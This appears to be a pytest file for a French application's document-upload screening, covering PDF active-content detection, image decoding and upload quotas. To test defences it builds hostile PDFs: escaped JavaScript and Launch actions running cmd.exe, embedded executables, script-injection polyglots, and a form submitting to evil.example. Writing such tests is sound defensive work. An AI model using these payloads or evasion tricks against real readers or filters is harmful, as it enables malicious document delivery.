"""What an upload must be, read by real parsers: a PDF is parsed (pypdf) and refused when any object —
compressed in an object stream, written with name escapes, or left outside the cross-reference table — holds
JavaScript, a launch action or an embedded file; an image is decoded whole (Pillow); each candidacy has an
allowance of files and of total size."""
from __future__ import annotations

import io
import os
import zlib

import pytest

from vae_app.candidacies import documents
from vae_app.candidacies.documents import DocumentRefused

from ..samples import JPEG, PDF, PNG

ACTIVE = "contenu actif"


def refusal(data: bytes, name: str = "piece.pdf") -> str:
    with pytest.raises(DocumentRefused) as refused:
        documents.check(name, data)
    return refused.value.errors["file"]


def _pdf_from_objects(objects: dict[int, bytes], root: int) -> bytes:
    """A classic PDF (cross-reference table) of the given objects."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, objects[number]))
    start = out.tell()
    size = max(objects) + 1
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    for number in range(1, size):
        out.write(b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n")
    out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, start))
    return out.getvalue()


PAGES = {2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"}


def _pdf_with_object_stream(catalog: bytes) -> bytes:
    """A PDF 1.5 whose catalog and pages sit compressed in an object stream, listed by a cross-reference stream:
    nothing of them is readable in the file's bytes."""
    inner = [catalog, PAGES[2], PAGES[3]]
    body, offsets = b"", []
    for item in inner:
        offsets.append(len(body))
        body += item + b"\n"
    header = b" ".join(b"%d %d" % (number, offset) for number, offset in zip((1, 2, 3), offsets)) + b"\n"
    packed = zlib.compress(header + body)
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    stream_at = out.tell()
    out.write(b"4 0 obj\n<< /Type /ObjStm /N 3 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (len(header), len(packed)))
    out.write(packed + b"\nendstream\nendobj\n")
    xref_at = out.tell()
    rows = [b"\x00" + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")]
    rows += [b"\x02" + (4).to_bytes(4, "big") + index.to_bytes(2, "big") for index in range(3)]
    rows += [b"\x01" + stream_at.to_bytes(4, "big") + (0).to_bytes(2, "big"), b"\x01" + xref_at.to_bytes(4, "big") + (0).to_bytes(2, "big")]
    table = b"".join(rows)
    out.write(b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table))
    out.write(table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at)
    return out.getvalue()


# --------------------------------------------------------------------------- PDF

def test_a_real_pdf_a_png_and_a_jpeg_are_accepted():
    assert documents.check("attestation.pdf", PDF) == ("application/pdf", "attestation.pdf")
    assert documents.check("scan.png", PNG) == ("image/png", "scan.png")
    assert documents.check("photo.jpeg", JPEG) == ("image/jpeg", "photo.jpg")


def test_a_handmade_pdf_with_its_cross_reference_table_is_accepted():
    plain = _pdf_from_objects({1: b"<< /Type /Catalog /Pages 2 0 R >>", **PAGES}, root=1)
    assert documents.check("a.pdf", plain)[0] == "application/pdf"
    assert documents.check("b.pdf", _pdf_with_object_stream(b"<< /Type /Catalog /Pages 2 0 R >>"))[0] == "application/pdf"


@pytest.mark.parametrize("catalog", [
    b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>",
    b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> >>",
    b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>",
    b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /L#61unch /F (cmd.exe) >> >>",
    b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(x.exe) << /Type /Filespec >>] >> >> >>",
    b"<< /Type /Catalog /Pages 2 0 R /Names << /#45mbeddedFiles << /Names [] >> >> >>",
    b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 9 0 R >> >>",
], ids=["javascript", "javascript-escaped", "launch", "launch-escaped", "embedded-file", "embedded-escaped", "xfa"])
@pytest.mark.parametrize("layout", ["table", "object-stream"])
def test_active_content_is_found_however_it_is_written(catalog, layout):
    data = _pdf_from_objects({1: catalog, **PAGES}, root=1) if layout == "table" else _pdf_with_object_stream(catalog)
    assert ACTIVE in refusal(data)


def test_the_object_stream_really_hides_the_names_from_a_byte_search():
    data = _pdf_with_object_stream(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (x) >> >>")
    assert b"JavaScript" not in data and b"/JS" not in data
    assert not documents._written_names_active(documents.STREAM.sub(b" ", data))  # only the parser sees it


def test_an_object_left_out_of_the_cross_reference_table_is_still_read():
    orphan = PDF.replace(b"%%EOF", b"%%EOF\n99 0 obj\n<< /S /L#61unch /F (calc.exe) >>\nendobj\n")
    assert ACTIVE in refusal(orphan)


def test_a_javascript_action_added_by_pypdf_is_refused():
    from pypdf import PdfWriter
    from pypdf.actions import JavaScript

    writer = PdfWriter()
    writer.add_blank_page(width=100, height=100)
    writer.add_open_action(JavaScript("app.alert('x');"))
    out = io.BytesIO()
    writer.write(out)
    assert ACTIVE in refusal(out.getvalue())


def test_a_file_attached_by_pypdf_is_refused():
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=100, height=100)
    writer.add_attachment("payload.exe", b"MZ")
    out = io.BytesIO()
    writer.write(out)
    assert ACTIVE in refusal(out.getvalue())


@pytest.mark.parametrize("data", [
    b"%PDF-1.4\n<!DOCTYPE html><p>hello</p>",
    b"%PDF-1.4\n<HTML><BODY onload=alert(1)>",
    b"%PDF-1.4\n<svg onload=alert(1)>",
    b"%PDF-1.4\n" + b"x" * 100 + b"<script>alert(1)</script>",
], ids=["doctype", "upper-case", "svg", "script"])
def test_a_web_page_behind_a_pdf_header_is_refused(data):
    assert ACTIVE in refusal(data)


def test_a_page_of_markup_inside_a_real_pdf_outside_its_streams_is_refused():
    assert ACTIVE in refusal(PDF.replace(b"%%EOF", b"%%EOF\n<html><script>alert(1)</script></html>"))


@pytest.mark.parametrize("data", [b"%PDF-1.4\nnothing else", b"%PDF-1.4\n" + os.urandom(2000), PDF[: len(PDF) // 3]],
                         ids=["no-objects", "noise", "truncated"])
def test_a_pdf_the_parser_cannot_read_is_refused_as_damaged(data):
    assert refusal(data) in ("Le PDF est illisible ou endommagé : enregistrez-le à nouveau et recommencez.",
                             "Le PDF ne contient aucune page.")


def test_a_pdf_locked_by_a_password_is_refused_and_one_open_to_all_is_read():
    from pypdf import PdfWriter

    def encrypted(password: str) -> bytes:
        writer = PdfWriter()
        writer.add_blank_page(width=100, height=100)
        writer.encrypt(user_password=password, owner_password="owner", algorithm="RC4-128")
        out = io.BytesIO()
        writer.write(out)
        return out.getvalue()

    assert "protégé par un mot de passe" in refusal(encrypted("secret"))
    assert documents.check("ouvert.pdf", encrypted(""))[0] == "application/pdf"


@pytest.mark.parametrize("algorithm", ["AES-128", "AES-256"])
def test_an_aes_pdf_that_opens_without_a_password_is_read(algorithm):
    """A payslip that only forbids printing or copying (an owner password) opens for anyone: it is read, not refused."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=100, height=100)
    writer.encrypt(user_password="", owner_password="employeur", algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    assert documents.check("bulletin.pdf", out.getvalue())[0] == "application/pdf"


def test_a_form_that_sends_itself_somewhere_is_refused():
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /SubmitForm /F (https://evil.example/collect) >> >>"
    assert ACTIVE in refusal(_pdf_with_object_stream(catalog))


def test_a_compressed_stream_is_not_searched_byte_by_byte():
    """Compressed page content may spell anything: only what the parser reads as a name counts."""
    content = zlib.compress(b"BT /F1 12 Tf (/JavaScript <script> /Launch) Tj ET")
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>"
    data = _pdf_from_objects({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: PAGES[2], 3: page,
                              4: b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(content), content)}, root=1)
    assert documents.check("texte.pdf", data)[0] == "application/pdf"


# --------------------------------------------------------------------------- images

@pytest.mark.parametrize("data, name", [
    (b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "scan.png"),
    (PNG[: len(PNG) // 2], "scan.png"),
    (b"\xff\xd8\xff\xe0" + os.urandom(500), "photo.jpg"),
], ids=["png-header-only", "png-truncated", "jpeg-noise"])
def test_an_image_that_does_not_decode_whole_is_refused(data, name):
    assert "L'image est illisible ou incomplète" in refusal(data, name)


def test_a_truncated_image_is_refused_even_after_weasyprint_told_pillow_to_pad_them():
    import weasyprint  # noqa: F401 - its import sets Pillow's LOAD_TRUNCATED_IMAGES for the whole process
    from PIL import ImageFile

    ImageFile.LOAD_TRUNCATED_IMAGES = True
    assert "L'image est illisible ou incomplète" in refusal(PNG[: len(PNG) // 2], "scan.png")
    assert "L'image est illisible ou incomplète" in refusal(JPEG[: len(JPEG) - 40], "photo.jpg")


def test_an_image_with_a_web_page_appended_is_refused():
    assert ACTIVE in refusal(PNG + b"<html><script>alert(1)</script></html>", "scan.png")


def test_an_image_beyond_forty_million_pixels_is_refused_before_it_is_decoded():
    from PIL import Image

    out = io.BytesIO()
    Image.new("1", (8000, 6000)).save(out, format="PNG")  # 48 million pixels, a few kilobytes
    assert "trop grande" in refusal(out.getvalue(), "immense.png")


# --------------------------------------------------------------------------- the allowance, through the portal

@pytest.fixture
def draft(client, make_user, login):
    from vae_app.auth.models import Role

    from .test_portal import start_application

    login(make_user(Role.CANDIDATE))
    return start_application(client)


def upload(client, candidacy, data: bytes, name: str):
    return client.post(f"/candidatures/{candidacy.id}/documents", data={"kind": "identity", "file": (io.BytesIO(data), name)},
                       content_type="multipart/form-data")


def test_the_number_of_files_per_candidacy_is_limited_by_configuration(app, client, draft, monkeypatch):
    monkeypatch.setitem(app.config, "VAE_DOCUMENTS_MAX_COUNT", 2)
    assert [upload(client, draft, PDF, f"piece{i}.pdf").status_code for i in range(2)] == [302, 302]
    third = upload(client, draft, PDF, "piece3.pdf")
    assert third.status_code == 422  # sent from a page opened before the other two landed
    assert "Le nombre maximum de pièces est atteint" in third.get_data(as_text=True)
    with pytest.raises(DocumentRefused, match="Ce dossier a déjà 2 pièces, le maximum autorisé"):
        documents.check_quota(draft, 10, max_count=2, max_total_bytes=10**9)
    assert len(draft.documents) == 2


def test_the_page_says_what_remains_of_the_allowance_and_hides_the_form_when_it_is_used_up(app, client, draft, monkeypatch):
    monkeypatch.setitem(app.config, "VAE_DOCUMENTS_MAX_COUNT", 1)
    page = client.get(f"/candidatures/{draft.id}").get_data(as_text=True)
    assert "0 pièce sur 1 au plus" in page and 'id="submit-document"' in page
    assert upload(client, draft, PDF, "piece.pdf").status_code == 302
    page = client.get(f"/candidatures/{draft.id}").get_data(as_text=True)
    assert "Le nombre maximum de pièces est atteint" in page and 'id="submit-document"' not in page


def test_a_body_beyond_the_request_limit_is_said_on_the_file_field_not_as_a_bare_error(client, draft):
    response = upload(client, draft, PDF + b"0" * (33 * 1024 * 1024), "enorme.pdf")
    assert response.status_code == 413
    page = response.get_data(as_text=True)
    assert 'id="file-error"' in page and "Le fichier fait 33,1 Mo, 10 Mo au plus" in page and 'id="submit-document"' in page


def test_refusals_are_said_in_english_to_an_english_reader(client, draft):
    client.get("/langue/en")
    response = upload(client, draft, b"%PDF-1.4\n<html><script>alert(1)</script>", "page.pdf")
    assert response.status_code == 422
    assert "active content" in response.get_data(as_text=True) and "contenu actif" not in response.get_data(as_text=True)


def test_the_total_size_per_candidacy_is_limited_by_configuration(app, client, draft, monkeypatch):
    monkeypatch.setitem(app.config, "VAE_DOCUMENTS_MAX_TOTAL_MB", 1)
    big = _noise_png()
    assert upload(client, draft, big, "a.png").status_code == 302
    second = upload(client, draft, big, "b.png")
    assert second.status_code == 422
    assert "dépasseraient 1 Mo au total" in second.get_data(as_text=True)
    assert len(draft.documents) == 1


def _noise_png() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.frombytes("RGB", (500, 400), os.urandom(500 * 400 * 3)).save(out, format="PNG")
    assert 500_000 < len(out.getvalue()) < 1024 * 1024
    return out.getvalue()


def test_a_file_a_little_over_the_limit_is_refused_beside_its_field(client, draft):
    """13 MB: the body is read whole (a browser whose upload is cut off shows a reset connection, not a message)."""
    response = upload(client, draft, PDF + b"0" * (13 * 1024 * 1024), "gros.pdf")
    assert response.status_code == 422 and "Le fichier fait 13,1 Mo, 10 Mo au plus" in response.get_data(as_text=True)
